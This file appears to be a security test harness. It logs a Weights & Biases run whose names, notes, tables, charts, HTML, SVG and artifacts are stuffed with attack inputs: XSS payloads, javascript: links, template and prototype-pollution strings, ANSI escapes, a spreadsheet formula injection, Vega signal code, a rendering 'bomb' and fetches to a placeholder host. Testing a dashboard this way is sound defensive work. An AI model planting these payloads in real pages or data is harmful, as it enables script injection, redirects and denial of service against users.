"""Logs a run in which everything that can be named or said is an attack. Prints its id."""

import json
import os
import sys

import plotly.graph_objects as go
import wandb

MARK = "window.__ran=1;fetch('http://attack.invalid/')"
SCRIPT = f"<script>{MARK}</script>"
IMAGE = f'<img src=x onerror="{MARK}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'
QUOTES = f"\"'><svg/onload={MARK}>${{{MARK}}}{{{{constructor.constructor('{MARK}')()}}}}"
MARKDOWN = f"""# {IMAGE}
[click](javascript:{MARK}) [data](data:text/html;base64,PHNjcmlwdD4=) ![x](x"onerror="{MARK})
<a href="javascript:{MARK}">a</a> {SCRIPT} <iframe srcdoc="{SCRIPT}"></iframe>
<javascript:{MARK}> [vb](vbscript:x) [ok](https://example.org/"onmouseover="{MARK})
"""
PAGE = f"""<html><head><meta http-equiv="refresh" content="0;url=http://attack.invalid/">
{SCRIPT}<base href="http://attack.invalid/"></head><body onload="{MARK}">{IMAGE}{SVG}
<form action="http://attack.invalid/"><button autofocus onfocus="{MARK}">b</button></form>
<a href="javascript:{MARK}" target="_top">go</a><iframe src="javascript:{MARK}"></iframe>
<script>parent.__ran=1; top.location='http://attack.invalid/'; document.cookie='a=b'</script>
<img src="http://attack.invalid/pixel.png"><link rel=stylesheet href="http://attack.invalid/a.css">
</body></html>"""
ANSI = (
    f"\x1b]8;;javascript:{MARK}\x07link\x1b]8;;\x07 \x1b[31m{IMAGE}\x1b[0m \x1b]0;title\x07 \x9b5m"
)
CALL = f"[].constructor.constructor('{MARK}')()"
WEB = "http://attack.invalid/x.json"
VEGA = {
    "$schema": "https://vega.github.io/schema/vega/v6.json",
    "usermeta": {"embedOptions": {"ast": False, "loader": {"baseURL": WEB}}},
    "config": {"events": {"timer": True}, "font": SCRIPT},
    "signals": [
        {"name": "a", "init": CALL},
        {"name": "b", "update": f"setTimeout('{MARK}')"},
        {"name": "c", "value": 0, "on": [{"events": {"type": "timer"}, "update": f"c + {CALL}"}]},
    ],
    "data": [{"name": "wandb"}],
    "marks": [],
}
LITE = {
    "data": {"name": "wandb"},
    "title": SCRIPT,
    "layer": [
        {
            "mark": {"type": "text", "tooltip": {"content": "data"}, "href": f"javascript:{MARK}"},
            "encoding": {"text": {"value": IMAGE}, "href": {"value": f"javascript:{MARK}"}},
        },
        {"mark": {"type": "image", "url": WEB}},
        {"data": {"url": WEB}, "mark": "point"},
        {
            "data": {"values": [{"t": IMAGE, "u": WEB}]},
            "mark": {"type": "text", "tooltip": True},
            "encoding": {"text": {"field": "t"}, "href": {"field": "u"}, "url": {"field": "u"}},
        },
    ],
}
# What takes for ever: ten thousand million rows.
BOMB = {
    "$schema": VEGA["$schema"],
    "data": [
        {
            "name": "a",
            "transform": [{"type": "sequence", "start": 0, "stop": 1e5}, {"type": "cross"}],
        }
    ],
    "marks": [],
}
FIGURE = go.Figure(
    go.Scatter(x=[1, 2], y=[1, 2], text=[IMAGE, SCRIPT], mode="markers+text", name=IMAGE),
    {
        "title": {"text": f'<a href="javascript:{MARK}">{IMAGE}</a>'},
        "images": [{"source": WEB, "x": 0, "y": 0, "sizex": 1, "sizey": 1}],
        "annotations": [{"text": f'<a href="{WEB}" target="_top">{SVG}</a>', "x": 1, "y": 1}],
        "xaxis": {"title": {"text": SCRIPT}, "tickprefix": IMAGE},
    },
)

where = os.environ["WANDB_DIR"]
api = wandb.Api()
charts = {}
for name, spec in {"signals": VEGA, "marks": LITE, "bomb": BOMB}.items():
    charts[name] = api.create_custom_chart("local", name, IMAGE, "vega2", "private", spec)


def drawn(name, columns=("x", "y")):
    table = wandb.Table(columns=list(columns), data=[[SCRIPT, 1], [IMAGE, 2]])
    return wandb.plot_table(charts[name], table, {"x": IMAGE, "y": "y"}, {"title": SCRIPT})


run = wandb.init(
    project=sys.argv[1],
    id="attack",
    name=IMAGE,
    notes=MARKDOWN,
    tags=[IMAGE[:60], "__proto__"],
    group=QUOTES[:120],
    job_type=SCRIPT,
    config={IMAGE: QUOTES, "__proto__": {"polluted": 1}, "constructor": SCRIPT, "a": {SCRIPT: 1}},
)
for step in range(3):
    run.log({IMAGE: step, f"{SCRIPT}/{QUOTES}": step, "__proto__": step, "loss": step})
print(ANSI)
print(SCRIPT, file=sys.stderr)
names = {"page.html": PAGE, "picture.svg": SVG, f"{IMAGE[:20].replace('/', '')}.html": PAGE}
for name, text in names.items():
    with open(f"{where}/{name}", "w") as file:
        file.write(text)
    run.save(f"{where}/{name}", base_path=where)
table = wandb.Table(columns=[IMAGE, "k"], data=[[SCRIPT, 1], [SVG, 2], ["=cmd|'/c calc'!A1", 3]])
run.log({"figure": FIGURE, "written": wandb.Html(FIGURE.to_html(include_plotlyjs="cdn"))})
run.log(
    {"signals": drawn("signals"), "marks": drawn("marks"), "unsaid": drawn("marks", (IMAGE, "y"))}
)
run.log({"page": wandb.Html(PAGE), "table": table, QUOTES: wandb.Html(SVG)})
artifact = wandb.Artifact("evil", "model", description=MARKDOWN, metadata={IMAGE: SCRIPT})
with artifact.new_file(f"{SVG[:4]}.svg", mode="w") as file:
    file.write(SVG)
run.log_artifact(artifact, aliases=["x<img src=x onerror=alert(1)>"]).wait()
run.alert(IMAGE, MARKDOWN, level=wandb.AlertLevel.WARN)
run.summary["best"] = SVG
run.finish()
run = wandb.init(project=sys.argv[1], id="bomb")
run.log({"after": drawn("marks"), "bomb": drawn("bomb")})
run.finish()
print(json.dumps("attack"))
